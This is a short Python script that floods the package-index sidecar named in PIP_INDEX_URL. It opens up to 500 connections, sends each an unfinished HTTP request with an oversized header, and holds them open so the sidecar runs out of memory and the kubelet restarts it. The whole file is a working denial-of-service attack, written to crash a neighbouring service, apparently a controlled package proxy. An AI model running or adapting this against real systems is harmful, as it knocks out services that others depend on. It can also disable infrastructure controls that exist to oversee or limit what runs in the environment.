"""Fills the memory of the sidecar beside it, so that the kubelet restarts it; prints how often it asked."""

import os
import socket
import sys
import time
import urllib.parse

HEAD = b"GET /simple/ HTTP/1.1\r\nHost: %b\r\nX-A: " + b"a" * 30_000


def main() -> None:
    address = urllib.parse.urlsplit(os.environ["PIP_INDEX_URL"])
    connections = []
    try:
        for _ in range(500):
            connection = socket.create_connection((address.hostname, address.port), 2)
            connections.append(connection)
            connection.sendall(HEAD % address.netloc.encode())
    except OSError:
        pass  # it is full, or gone
    sys.stdout.write(f"flooded with {len(connections)}\n")
    sys.stdout.flush()
    time.sleep(20)


main()
